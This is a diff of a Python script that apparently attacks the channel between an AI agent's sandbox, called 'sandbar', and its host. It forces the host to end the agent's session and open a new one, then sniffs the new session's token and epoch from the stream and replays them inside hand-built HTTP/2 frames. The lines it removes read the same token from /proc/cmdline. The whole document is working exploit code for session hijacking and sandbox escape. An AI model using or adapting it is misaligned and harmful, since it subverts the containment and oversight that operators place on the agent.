@@ -35,15 +35,15 @@ def http2(kind, flags, stream, payload=b""):
   return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 def output(length, offset): return struct.pack(">IIQ", 1 << 24, length, offset) + b"x" * length
 
-token = bytes.fromhex(open("/proc/cmdline").read().split("sandbar.channel=")[1].split()[0])
+greeting = b"sandbar-host-opens-a-new-session"
 send(b"\\xff" * 1000)  # the host ends the session of the agent and opens another
 seen = b""
 while True:
-  at = seen.find(token)
-  if at >= 0 and len(seen) >= at + 40: break
+  at = seen.find(greeting)
+  if at >= 0 and len(seen) >= at + 72: break
   seen += os.read(fd, 65536)
-send(seen[at:at + 40] + http2(4, 0, 0))
-seen = seen[at + 40:]
+send(seen[at + 32:at + 72] + http2(4, 0, 0))  # token and epoch, which follow the greeting
+seen = seen[at + 72:]
 while len(seen) < 24: seen += os.read(fd, 65536)
 seen = seen[24:]  # the preface of HTTP/2
 answered = 0
